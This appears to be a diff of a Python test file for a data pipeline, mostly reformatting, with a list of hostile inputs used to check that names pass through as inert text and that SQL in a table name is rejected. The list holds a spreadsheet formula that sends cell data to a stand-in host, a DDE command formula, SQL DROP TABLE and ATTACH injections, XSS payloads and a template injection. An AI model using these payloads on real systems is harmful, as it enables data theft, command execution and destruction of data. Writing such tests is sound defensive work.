@@ -51,7 +51,7 @@ HOSTILE = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "'; DROP TABLE staging.customers; --",
-    '"; ATTACH \'/tmp/x\' AS x; --',
+    "\"; ATTACH '/tmp/x' AS x; --",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "{{ 7 * 7 }}{% raw %}",
@@ -132,9 +132,7 @@ def test_a_hostile_name_comes_through_as_it_is(tmp_path, text):
 def test_a_cell_of_ten_megabytes_is_read_and_never_quoted(tmp_path):
     _, fate = fates(tmp_path, NAMES, "c.csv", as_csv([["id", "name"], ["c1", "x" * 10_000_000]]))
     assert fate.accepted["name"].str.len_bytes().to_list() == [10_000_000]
-    _, fate = fates(
-        tmp_path, EVERY_KIND, "c.csv", as_csv([HEADERS, *([[*"ab", *["9" * 10_000_000] * 6]] * 2)])
-    )
+    _, fate = fates(tmp_path, EVERY_KIND, "c.csv", as_csv([HEADERS, *([[*"ab", *["9" * 10_000_000] * 6]] * 2)]))
     assert isinstance(fate, SourceError)
     assert len(str(fate)) < 2_000
 
@@ -222,13 +220,12 @@ def test_hostile_names_go_through_a_whole_run_as_the_texts_that_they_are(company
 def test_exports_that_are_opened_in_a_spreadsheet_are_not_written():
     """Parquet, DuckDB, JSON and HTML run no formulas; a CSV would have to disarm them."""
     room = Path(__file__).parents[2] / "pipelines"
-    writers = [path for path in room.rglob("*.py") if "write_csv" in path.read_text() or "csv.writer" in path.read_text()]
+    writers = [
+        path for path in room.rglob("*.py") if "write_csv" in path.read_text() or "csv.writer" in path.read_text()
+    ]
     assert writers == []
 
 
 def test_a_name_of_a_table_is_no_place_for_sql():
     with duckdb.connect() as con, pytest.raises(ValueError, match="is no table name"):
-
         read(con, 'facts.one"; DROP TABLE x; --')
-
-
